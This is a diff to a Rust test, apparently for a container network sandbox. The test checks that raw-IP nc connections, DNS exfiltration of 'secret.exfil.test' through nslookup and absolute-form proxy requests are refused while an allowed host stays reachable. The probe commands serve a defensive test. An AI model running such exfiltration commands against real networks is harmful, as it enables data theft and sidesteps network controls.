@@ -688,9 +688,10 @@ fn docker_raw_ip_udp_and_absolute_form_are_refused_and_the_allowed_host_is_reach
         "docker",
         &format!(
             "echo GET / | nc -w 5 {ip} {port} >/dev/null 2>&1 && echo raw=connected || echo raw=failed\n\
-             nslookup -port={udp} secret.exfil.test {udp_ip} >/dev/null 2>&1; echo udp=$?\n\
+             nslookup secret.exfil.test {udp_ip}:{udp} >/dev/null 2>&1; echo udp=$?\n\
              http_proxy=http://127.0.0.1:3128 wget -q -O - http://denied.test:{port}/ >/dev/null 2>&1 && echo absolute=reached || echo absolute=refused\n\
-             wget -q -O - http://plain.test:{plain}/ | grep -q {UPSTREAM_BODY} && echo allowed=reached || echo allowed=no\n",
+             wget -q -O - http://plain.test:{plain}/ | grep -q {UPSTREAM_BODY} && echo allowed=reached || echo allowed=no\n\
+             printf 'GET / HTTP/1.1\\r\\nHost: plain.test:{plain}\\r\\nConnection: close\\r\\n\\r\\n' | nc -w 5 plain.test {plain} | grep -q {UPSTREAM_BODY} && echo transparent=reached || echo transparent=no\n",
             ip = denied.ip(),
             port = denied.port(),
             udp = sink.addr().port(),
@@ -705,7 +706,8 @@ fn docker_raw_ip_udp_and_absolute_form_are_refused_and_the_allowed_host_is_reach
     lab.denied
         .assert_saw_nothing("docker: raw IP and absolute-form");
     assert!(sink.received().is_empty(), "{:?}", sink.received());
-    assert_eq!(lab.plain.seen().len(), 1);
+    assert_eq!(ran.said("transparent"), "reached", "{}", ran.stdout);
+    assert_eq!(lab.plain.seen().len(), 2);
 }
 
 // ---- The real Claude Code CLI with only the Messages API allowed. ----
